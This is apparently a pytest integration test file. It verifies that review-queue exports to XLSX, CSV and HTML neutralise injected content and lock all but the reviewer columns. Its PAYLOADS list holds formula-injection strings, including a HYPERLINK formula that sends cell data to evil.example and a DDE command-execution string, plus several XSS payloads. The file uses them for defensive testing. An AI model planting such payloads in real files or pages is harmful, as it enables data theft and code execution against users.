"""Review exports are inert: formulas stay text in XLSX and CSV, markup is escaped in HTML,
only the reviewer columns are editable, and the decision column offers the framework's list."""

import csv
import zipfile

import polars as pl
import pytest
from openpyxl import load_workbook

from assets.exports.review_queue import (
    CONTEXT_COLUMNS,
    DECISIONS,
    REVIEWER_COLUMNS,
    write_csv,
    write_html,
    write_xlsx,
)
from assets.exports.spreadsheet_safety import TRIGGERS

pytestmark = pytest.mark.integration

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    '"><svg onload=alert(3)>',
]
NUMERIC = {"step", "previous_messages"}


@pytest.fixture
def queue() -> pl.DataFrame:
    rows = []
    for i, payload in enumerate(PAYLOADS):
        row = {c: payload for c in CONTEXT_COLUMNS}
        row |= {
            "review_token": f"cm_{i}.abc",
            "campaign_id": "diag",
            "send_authority": "Human Approved Send",
        }
        row |= {"step": 1, "previous_messages": 0, "lint_passed": True}
        rows.append(row)
    return pl.DataFrame(rows).select(CONTEXT_COLUMNS)


def test_xlsx_cells_never_run_and_only_reviewer_columns_are_editable(queue, tmp_path):
    path = tmp_path / "q.xlsx"
    write_xlsx(queue, path)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    assert header == [*CONTEXT_COLUMNS, *REVIEWER_COLUMNS]
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert len(texts) >= len(PAYLOADS) * (len(CONTEXT_COLUMNS) - 5)
    for cell in texts:
        assert cell.data_type == "s"
        assert not cell.value.startswith(TRIGGERS), cell.value
    assert sheet.protection.sheet
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            editable = header[cell.column - 1] in REVIEWER_COLUMNS
            assert cell.protection.locked is not editable
    [validation] = sheet.data_validations.dataValidation
    assert validation.formula1 == '"' + ",".join(DECISIONS) + '"'
    decision_column = sheet.cell(row=1, column=header.index("decision") + 1).column_letter
    assert f"{decision_column}2" in str(validation.sqref).split(":")[0]


def test_csv_fields_never_start_a_formula(queue, tmp_path):
    path = tmp_path / "q.csv"
    write_csv(queue, path)
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == [*CONTEXT_COLUMNS, *REVIEWER_COLUMNS]
    fields = [value for row in rows[1:] for value in row]
    assert len(rows) == len(PAYLOADS) + 1
    assert not [v for v in fields if v.startswith(TRIGGERS)]
    assert "'" + PAYLOADS[0] in fields  # kept, as text


def test_html_escapes_every_value(queue, tmp_path):
    [page] = write_html(queue, tmp_path, "2026-11-24")
    html = page.read_text()
    for tag in ("<script", "<img", "<svg"):
        assert tag not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "Content-Security-Policy" in html
